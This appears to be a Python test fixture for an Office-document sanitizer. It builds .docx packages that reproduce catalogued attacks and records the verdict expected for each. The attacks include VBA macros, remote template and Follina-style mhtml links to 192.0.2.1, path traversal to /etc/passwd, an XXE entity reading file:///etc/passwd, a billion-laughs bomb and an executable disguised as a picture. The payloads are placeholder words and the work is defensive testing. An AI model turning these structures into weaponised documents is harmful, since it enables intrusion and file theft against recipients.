# SPDX-License-Identifier: Apache-2.0
"""Attacks on documents by what their package is, not by what stands in it: the
numbers are those of the catalogue of attacks. CASES says of each how it is made
and what must become of it: the counts of the report, or the reason for which it
is removed. The payloads are words.
"""
import io
import struct
import zipfile
import zlib

OPEN = "http://schemas.openxmlformats.org/"
OFFICE = OPEN + "officeDocument/2006/relationships/"
STRICT = "http://purl.oclc.org/ooxml/"
PACKAGE = OPEN + "package/2006/"
MS = "http://schemas.microsoft.com/office/"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
MARKER = b"PAYLOAD-OF-A-SAMPLE"
EVIL = MARKER.decode()
MAIN = "word/document.xml"
LINKS = "word/_rels/document.xml.rels"


def png():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 2, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0\0\0\xff\0")) + chunk(b"IEND", b""))


def types(more="", main=WORD + "document.main+xml"):
    return (f'<Types xmlns="{PACKAGE}content-types"><Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
            f'<Override PartName="/{MAIN}" ContentType="{main}"/>{more}</Types>')


def links(*rows):
    """Relationships: the type (of OFFICE, if it is one word), the target."""
    return (f'<Relationships xmlns="{PACKAGE}relationships">' + "".join(
        f'<Relationship Id="r{i}" Type="{kind if ":" in kind else OFFICE + kind}" Target="{target}"'
        + (' TargetMode="External"' if out else "") + "/>"
        for i, (kind, target, *out) in enumerate(rows)) + "</Relationships>")


def document(body="", space=OPEN + "wordprocessingml/2006/main"):
    return (f'<w:document xmlns:w="{space}" xmlns:r="{OFFICE[:-1]}"><w:body><w:p><w:r><w:t>町の文書'
            f"</w:t></w:r></w:p>{body}</w:body></w:document>")


def package(changes=None, more=(), prefix=b""):
    """A document; @changes are members in the place of its own (None: none),
    @more are put behind them, whatever their names."""
    parts = {"[Content_Types].xml": types(), "_rels/.rels": links(("officeDocument", MAIN)),
             MAIN: document()}
    parts.update(changes or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in [*parts.items(), *more]:
            if data is not None:
                info = zipfile.ZipInfo(name, (2026, 11, 20, 9, 0, 0))
                info.compress_type = zipfile.ZIP_DEFLATED
                archive.writestr(info, data)
    return prefix + out.getvalue()


def with_links(*rows, parts=None, more=""):
    return package({"[Content_Types].xml": types(more), LINKS: links(*rows), **(parts or {})})


def macros(name="vbaProject.bin", kind="application/vnd.ms-office.vbaProject", default=False):
    entry = (f'<Default Extension="bin" ContentType="{kind}"/>' if default
             else f'<Override PartName="/word/{name}" ContentType="{kind}"/>')
    return package({
        "[Content_Types].xml": types(entry, "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "word/" + name: MARKER, LINKS: links((MS + "2006/relationships/vbaProject", name))})


def nested(depth):
    return document("<w:sdt><w:sdtContent>" * depth + "</w:sdtContent></w:sdt>" * depth)


class Case:
    def __init__(self, name, data, counts=None, reason=None, file="a.docx"):
        self.name, self.data, self.counts, self.reason, self.file = name, data, counts, reason, file


PART = {"word/a.bin": MARKER}
AMBIGUOUS, UNREADABLE = "ambiguous", "unreadable"
CASES = [
    Case("least", package(), {}),
    Case("O001-vba", macros(), {"vba-project": 1, "format-changed": 1}, file="a.docm"),
    Case("O001-vba-renamed", macros("a.bin"), {"vba-project": 1, "format-changed": 1}),
    Case("O001-vba-other-type", macros("a.xml", "application/xml"),
         {"vba-project": 1, "format-changed": 1}, file="a.docm"),
    Case("O002-vba-by-default", macros(default=True), {"vba-project": 1, "format-changed": 1}),
    Case("O003-template-http", with_links(("attachedTemplate", "http://192.0.2.1/" + EVIL, True)),
         {"external-target": 1}),
    Case("O003-template-share", with_links(("attachedTemplate", r"\\192.0.2.1\a\b.dotm", True)),
         {"external-target": 1}),
    Case("O003-template-file", with_links(("attachedTemplate", "file:///c:/a.dotm", True)),
         {"external-target": 1}),
    Case("O004-outside", with_links(
        ("frame", "http://192.0.2.1/", True), ("oleObject", "http://192.0.2.1/a.doc", True),
        ("image", "http://192.0.2.1/a.png", True), ("subDocument", "a.docx", True),
        ("externalLink", "http://192.0.2.1/a.xlsx", True), ("mailMergeSource", "file:///a.mdb", True),
        ("hyperlink", "file:///c:/windows/a.exe", True), ("hyperlink", "javascript:a", True)),
         {"external-target": 7, "remote-image": 1}),
    Case("O005-follina", with_links(
        ("oleObject", f"mhtml:http://192.0.2.1/a.html!x-usc:http://192.0.2.1/{EVIL}", True)),
         {"external-target": 1}),
    Case("O009-chunk", with_links(("aFChunk", "a.html"), parts={"word/a.html": b"<script>" + MARKER},
                                  more='<Override PartName="/word/a.html" ContentType="text/html"/>'),
         {"embedded-object": 1}),
    Case("O010-twice", package(more=[(MAIN, document())]), reason=AMBIGUOUS),
    Case("O010-twice-by-case", package(more=[("Word/Document.xml", MARKER)]), reason=AMBIGUOUS),
    Case("O011-backslash", package(more=[("word\\a.xml", MARKER)]), reason=AMBIGUOUS),
    Case("O011-escaped-dots", package(more=[("word/%2e%2e/a.xml", MARKER)]), reason=AMBIGUOUS),
    Case("O011-division-slash", package(more=[("word\u2215a.xml", MARKER)]), reason=AMBIGUOUS),
    Case("O011-wide-slash", package(more=[("word\uff0fa.xml", MARKER)]), reason=AMBIGUOUS),
    Case("O011-dot-behind", package(more=[("word/a.xml.", MARKER)]), reason=AMBIGUOUS),
    Case("O011-piece", package(more=[("word/a.xml/[0].piece", MARKER)]), reason=AMBIGUOUS),
    Case("O012-orphan", package(more=[("word/vbaProject.bin.xml", MARKER), ("a.exe", MARKER)]), {}),
    Case("O013-dots", with_links(("styles", "../../word/a.xml"), ("numbering", "../../../etc/passwd")),
         {"unknown-part": 2}),
    Case("O013-absolute", package({"_rels/.rels": links(("officeDocument", "/word/./x/../document.xml"))}),
         {}),
    Case("O013-base", package({LINKS: links(("styles", "a.xml")).replace(
        " Id=", ' xml:base="/a/" Id=')}), reason=AMBIGUOUS),
    Case("O014-two-overrides", package({"[Content_Types].xml": types(
        f'<Override PartName="/WORD/document.xml" ContentType="{WORD}template.main+xml"/>')}),
         reason=AMBIGUOUS),
    Case("O014-xml-by-default", package({"[Content_Types].xml": types().replace(
        '"application/xml"', '"application/vnd.ms-office.vbaProject"')}), {"format-changed": 1}),
    Case("O015-utf-16", package({MAIN: ("\ufeff<?xml version='1.0' encoding='UTF-16'?>"
                                        + document()).encode("utf-16-le")}), {}),
    Case("O015-utf-16-entity", package({MAIN: (
        "\ufeff<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>" + document()).encode("utf-16-le")}),
         reason=UNREADABLE),
    Case("O015-utf-7", package({MAIN: "<?xml version='1.0' encoding='UTF-7'?>" + document()}),
         reason=UNREADABLE),
    Case("O016-laughs", package({MAIN: "<!DOCTYPE d [<!ENTITY a0 'ha'>" + "".join(
        f"<!ENTITY a{i + 1} '{f'&a{i};' * 10}'>" for i in range(9)) + "]>" + document("&a9;")}),
         reason=UNREADABLE),
    Case("O016-attributes", package({MAIN: document("<w:p " + " ".join(
        f'a{i}=""' for i in range(1000000)) + "/>")}), reason=UNREADABLE),
    Case("O016-depth", package({MAIN: nested(400)}), reason="limit-depth"),
    Case("O023-custom-ui", package({
        "_rels/.rels": links(("officeDocument", MAIN),
                             (MS + "2006/relationships/ui/extensibility", "ui.xml"),
                             (MS + "2007/relationships/ui/extensibility", "ui.xml")),
        "ui.xml": b"<customUI onLoad='" + MARKER + b"'/>",
        LINKS: links((MS + "2006/relationships/keyMapCustomizations", "a.bin"),
                     (MS + "2006/relationships/attachedToolbars", "a.bin")), **PART}),
         {"custom-ui": 4}),
    Case("O024-web-extension", package({
        "_rels/.rels": links(("officeDocument", MAIN),
                             (MS + "2011/relationships/webextensiontaskpanes", "t.xml")),
        "t.xml": MARKER}), {"web-extension": 1}),
    Case("O025-signature", package({
        "_rels/.rels": links(("officeDocument", MAIN),
                             (PACKAGE + "relationships/digital-signature/origin", "s.xml")),
        "s.xml": MARKER}), {"signature": 1}),
    Case("O026-picture-is-a-program", with_links(("image", "a.bin"), parts={
        "word/a.bin": b"MZ" + MARKER,
        MAIN: document('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
                       '<v:imagedata r:id="r0"/></v:shape></w:pict></w:r></w:p>')}),
         {"embedded-picture": 1}),
    Case("O026-picture-not-shown", with_links(("image", "a.png"), parts={
        "word/a.png": png() + MARKER}), {}),
    Case("O027-font", with_links(("font", "a.bin"), parts=PART), {"font-data": 1}),
    Case("O030-docm-as-odt", macros(), {"vba-project": 1, "format-changed": 1}, file="a.odt"),
    Case("O030-docm-as-doc", macros(), {"vba-project": 1, "format-changed": 1}, file="a.doc"),
    Case("O030-docm-without-name", macros(), {"vba-project": 1, "format-changed": 1}, file="a"),
    Case("O031-program-before", package(prefix=b"MZ" + MARKER), reason="archive-sfx"),
    Case("O031-page-before", package(prefix=b"<html>" + MARKER), reason="archive-ambiguous"),
    Case("O032-strict", package({
        "_rels/.rels": links((STRICT + "officeDocument/relationships/officeDocument", MAIN)),
        MAIN: document(space=STRICT + "wordprocessingml/main"),
        LINKS: links((STRICT + "officeDocument/relationships/attachedTemplate", "http://192.0.2.1/", True),
                     (STRICT + "officeDocument/relationships/oleObject", "a.bin")), **PART}),
         {"external-target": 1, "embedded-object": 1}),
]
